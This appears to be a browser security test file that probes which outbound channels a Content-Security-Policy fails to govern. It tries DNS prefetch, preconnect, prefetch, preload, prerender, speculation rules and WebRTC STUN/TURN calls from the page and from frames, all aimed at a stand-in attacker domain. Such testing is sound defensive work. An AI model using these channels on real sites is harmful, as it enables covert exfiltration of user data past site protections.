// What no Content-Security-Policy governs: hints to the browser, and connections between peers.
{
  const { add, attack, facts, lastAttack, out, run, unclear } = hostile;

  hostile.group("hints", "Hints and peers");

  /** A name that only a name server of the attacker would hear of. @param {string} id */
  const name = (id) => `${id}-${run}.hostile.example`;
  const onlyDns = unclear("only a name server could tell; look into the browser's net log");

  attack("dns-prefetch", "Have a name looked up ahead", ({ id }) => {
    add("link", { rel: "dns-prefetch", href: `http://${name(id)}/` }, document.head);
    add("a", { href: `http://${name(`${id}-anchor`)}/` });
    return onlyDns;
  });
  attack("preconnect", "Have a connection opened ahead", ({ id }) => {
    add("link", { rel: "preconnect", href: facts.tcp[id] }, document.head);
    add("link", { rel: "preconnect", href: `http://${name(id)}/` }, document.head);
  });
  attack("prefetch", "Have an address fetched ahead", ({ id }) =>
    add("link", { rel: "prefetch", href: out(id) }, document.head) && undefined,
  );
  attack("preload", "Have a resource loaded ahead", ({ id }) =>
    add("link", { rel: "preload", as: "image", href: out(id) }, document.head) && undefined,
  );
  attack("modulepreload", "Have a module loaded ahead", ({ id }) =>
    add("link", { rel: "modulepreload", href: `${out(id)}.js` }, document.head) && undefined,
  );
  attack("prerender", "Have a page rendered ahead by <link>", ({ id }) =>
    add("link", { rel: "prerender", href: out(id) }, document.head) && undefined,
  );
  attack("speculation", "Have pages fetched and rendered ahead by speculation rules", ({ id }) => {
    const rule = [{ source: "list", urls: [out(id)], eagerness: "immediate" }];
    add("script", { type: "speculationrules", textContent: JSON.stringify({ prefetch: rule, prerender: rule }) });
  });
  // A browser that forbids them ends the process of a view that tries, so each of these runs alone.
  lastAttack("webrtc", "Datagrams, a connection and a name by WebRTC", ({ id }) => {
    const tcp = facts.tcp[`${id}-tcp`].replace("http://", "turn:");
    const urls = [`stun:${facts.name}:${facts.udp[id]}`, `${tcp}?transport=tcp`, `stun:${name(id)}:3478`];
    void hostile.callPeer(self, urls).catch(() => {});
  });
  lastAttack("child-webrtc", "WebRTC of a blank child frame", ({ id }) => {
    const frame = add("iframe", {});
    void hostile.callPeer(frame.contentWindow, [`stun:${facts.name}:${facts.udp[id]}`]).catch(() => {});
  });
  lastAttack("above-webrtc", "WebRTC of the window above, and of a frame in it", ({ id }) => {
    for (const window of hostile.reachable()) {
      const frame = add("iframe", { hidden: true }, window.document.body);
      for (const realm of [window, frame.contentWindow]) {
        void hostile.callPeer(realm, [`stun:${facts.name}:${facts.udp[id]}`]).catch(() => {});
      }
    }
  });
}
